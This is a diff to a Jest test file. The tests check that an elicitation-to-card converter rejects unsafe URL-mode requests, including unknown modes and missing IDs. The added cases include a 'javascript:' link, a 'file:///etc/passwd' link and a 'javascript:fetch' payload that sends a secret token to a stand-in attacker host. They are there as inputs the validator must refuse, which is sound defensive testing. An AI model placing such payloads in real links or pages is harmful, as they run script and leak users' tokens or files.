@@ -167,7 +167,10 @@ describe('declined shapes, with a reason a log can show', () => {
   test.each([
     ['missing properties', { mode: 'form', message: 'm', requestedSchema: { type: 'object' } }, 'MissingProperties'],
     ['missing requestedSchema', { mode: 'form', message: 'm' }, 'MissingProperties'],
-    ['url mode', { mode: 'url', message: 'm', url: 'https://example.com', elicitationId: 'e' }, 'UnsupportedMode'],
+    ['url mode with a javascript: link', { mode: 'url', message: 'm', url: 'javascript:alert(1)', elicitationId: 'e' }, 'UnsupportedUrl'],
+    ['url mode with a file: link', { mode: 'url', message: 'm', url: 'file:///etc/passwd', elicitationId: 'e' }, 'UnsupportedUrl'],
+    ['url mode without an elicitationId', { mode: 'url', message: 'm', url: 'https://example.com' }, 'InvalidRequest'],
+    ['an unknown mode', { mode: 'carrier-pigeon', message: 'm' }, 'UnsupportedMode'],
     ['user verification', { mode: 'openai/userVerification', title: 't', description: 'd', challenge: 'c' }, 'UnsupportedMode'],
     ['a number enum', form({ n: { type: 'number', enum: [1, 2] } }), 'NonStringEnum'],
     ['a boolean enum', form({ n: { type: 'boolean', enum: [true] } }), 'NonStringEnum'],
@@ -208,8 +211,10 @@ describe('declined shapes, with a reason a log can show', () => {
   test('the messages say what is unsupported', () => {
     const card = elicitationToCard(form({ port: { type: 'number', enum: [80, 443] } }));
     expect(E.isLeft(card) && card.left.message).toBe('Unsupported elicitation: property "port" has an enum value that is not a string (only string enums are supported)');
-    const mode = elicitationToCard({ mode: 'url', message: 'm' });
-    expect(E.isLeft(mode) && mode.left.message).toBe('Unsupported elicitation: mode "url" is not supported (use "form")');
+    const mode = elicitationToCard({ mode: 'openai/userVerification', title: 't', description: 'd', challenge: 'c' });
+    expect(E.isLeft(mode) && mode.left.message).toBe('Unsupported elicitation: mode "openai/userVerification" is not supported (use "form" or "url")');
+    const url = elicitationToCard({ mode: 'url', message: 'm', url: 'javascript:fetch("https://evil.example/?secret-token-value")', elicitationId: 'e' });
+    expect(E.isLeft(url) && url.left.message).toBe('Unsupported elicitation: url mode: scheme "javascript" is not offered (only https, or http on loopback)');
   });
 });
 
